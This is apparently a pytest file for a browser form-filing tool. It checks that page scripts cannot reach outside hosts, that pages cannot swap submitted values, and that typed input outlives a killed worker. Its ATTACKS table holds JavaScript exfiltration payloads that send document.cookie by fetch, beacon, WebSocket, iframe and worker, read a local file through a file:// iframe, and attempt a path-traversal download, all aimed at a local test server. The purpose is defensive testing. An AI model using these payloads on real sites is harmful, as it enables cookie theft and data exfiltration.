"""A9: a page that tries to get out reaches nobody but its own host; typed values outlive a killed worker."""

import os
import signal
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from itertools import count
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

from bridges.browser_process import executable
from bridges.filing import Filing, NotSent, Outcome
from bridges.filing_desk import FilingDesk
from bridges.journal import open_plain
from bridges.recipe import load
from tests.bridges.pages import served

pytestmark = pytest.mark.browser

RECIPE = """
recipe: 1
department: lab
name: {zh: 试验, en: Lab}
base: http://127.0.0.1:1/
settle_ms: 400
forms:
  试验:
    items: [lab.form]
    steps:
      - open: /form
      - fill: [{label: 姓名, element: person.name}]
      - submit: 提交
    receipt: {number: '编号(\\d+)'}
"""
FORM = "<!doctype html><meta charset=utf-8><label>姓名<input name=n></label><button>提交</button><script>%s</script>"
ATTACKS = {
    "fetch": "fetch('%(out)sfetch?'+document.cookie,{mode:'no-cors'}).catch(()=>0)",
    "image": "new Image().src='%(out)simage'",
    "beacon": "navigator.sendBeacon('%(out)sbeacon','x')",
    "socket": "try{new WebSocket('%(out)s'.replace('http','ws')+'socket')}catch(e){}",
    "events": "new EventSource('%(out)sevents')",
    "frame": "document.body.innerHTML+='<iframe src=\"%(out)sframe\"></iframe>'",
    "popup": "window.open('%(out)spopup')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('%(out)sworker',{mode:'no-cors'})\"])))",
    "preconnect": "document.head.innerHTML+='<link rel=prefetch href=\"%(out)sprefetch\">'",
    "file": "document.body.innerHTML+='<iframe src=\"file:///etc/hostname\"></iframe>'",
    "download": "const a=document.createElement('a');a.href='data:text/plain,x';a.download='../../evil.sh';a.click()",
}


@dataclass(frozen=True)
class Lab:
    """One department whose only page each test writes anew."""

    desk: FilingDesk
    pages: dict[str, str]
    base: str
    room: Path
    keys: Iterator[int] = field(default_factory=lambda: count(1))

    def file(self, page: str, name: str = "演示数据", *, rehearsal: bool = False) -> Outcome:
        self.pages["/form"] = page
        filing = Filing(f"V1-{next(self.keys)}:lab:1", "lab", "lab.form", {"person.name": name})
        return self.desk.file(filing, stop_before_submit=rehearsal)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    room, pages = tmp_path_factory.mktemp("lab"), dict[str, str]()
    (room / "recipe.yaml").write_text(RECIPE, encoding="utf-8")
    with served(pages) as (base, _):
        recipe = replace(load(room / "recipe.yaml"), base=base)
        desk = FilingDesk(open_plain(room / "j.db"), room / "browsers", lambda _: None, departments={"lab": recipe})
        yield Lab(desk, pages, base, room)
        desk.close()


ONE_BY_ONE = [pytest.param([name], marks=pytest.mark.nightly, id=name) for name in ATTACKS]


@pytest.mark.slow
@pytest.mark.parametrize("names", [pytest.param(list(ATTACKS), id="all_at_once"), *ONE_BY_ONE])
def test_no_way_out_is_open(lab: Lab, names: list[str]) -> None:
    home = Path.home()
    downloads = set(home.glob("Downloads/*evil*"))
    with served({}) as (out, outside):
        attack = ";".join(f"try{{{ATTACKS[name] % {'out': out}}}}catch(e){{}}" for name in names)
        outcome = lab.file(FORM % attack, rehearsal=True)
        assert isinstance(outcome, NotSent)
        assert outcome.code == "stopped_before_submit", "an attack that fails costs no filing"
        assert outside == []
    assert not list(lab.room.rglob("evil.sh"))
    assert set(home.glob("Downloads/*evil*")) == downloads


@pytest.mark.slow
@pytest.mark.parametrize("name", ["fetch", "image", "frame"])
def test_the_same_pages_get_out_of_a_browser_without_walls(name: str) -> None:
    """Negative control: the attacks are real, it is our walls that hold them."""
    pages = dict[str, str]()
    with served({}) as (out, outside), served(pages) as (base, _), sync_playwright() as playwright:
        pages["/form"] = FORM % (ATTACKS[name] % {"out": out})
        browser = playwright.chromium.launch(executable_path=executable(), args=["--no-sandbox"])
        browser.new_page().goto(base + "form")
        deadline = time.monotonic() + 20
        while not outside and time.monotonic() < deadline:
            time.sleep(0.02)
        browser.close()
    assert outside


def test_an_unknown_alert_stops_the_run(lab: Lab) -> None:
    outcome = lab.file(FORM % "for(let i=0;i<30;i++)alert('谁也不认识')")
    assert isinstance(outcome, NotSent)
    assert outcome.code == "unknown_dialog"


@pytest.mark.parametrize(
    "bounce",
    [
        "n.oninput=()=>{n.value=n.value.slice(0,1)}",
        "n.onchange=()=>setTimeout(()=>{n.value='别人'},100)",
        "n.onblur=()=>{n.value=''}",
    ],
)
def test_a_value_the_page_takes_back_is_never_submitted(lab: Lab, bounce: str) -> None:
    outcome = lab.file(FORM % f"const n=document.querySelector('[name=n]');{bounce}")
    assert isinstance(outcome, NotSent)
    assert outcome.code == "field_not_held"


def test_what_was_typed_outlives_a_killed_worker(lab: Lab) -> None:
    lab.file(FORM % "", "演示", rehearsal=True)
    hand = lab.desk._hands["lab"]
    os.kill(hand.worker_pid or 0, signal.SIGKILL)
    living = hand.browser.living()
    assert living
    with sync_playwright() as playwright:
        began = time.monotonic()
        browser = playwright.chromium.connect_over_cdp(living.endpoint)
        page = next(one for one in browser.contexts[0].pages if one.url.startswith(lab.base))
        assert page.input_value("[name=n]") == "演示"
        assert time.monotonic() - began < 5  # 0.04 s on an idle machine
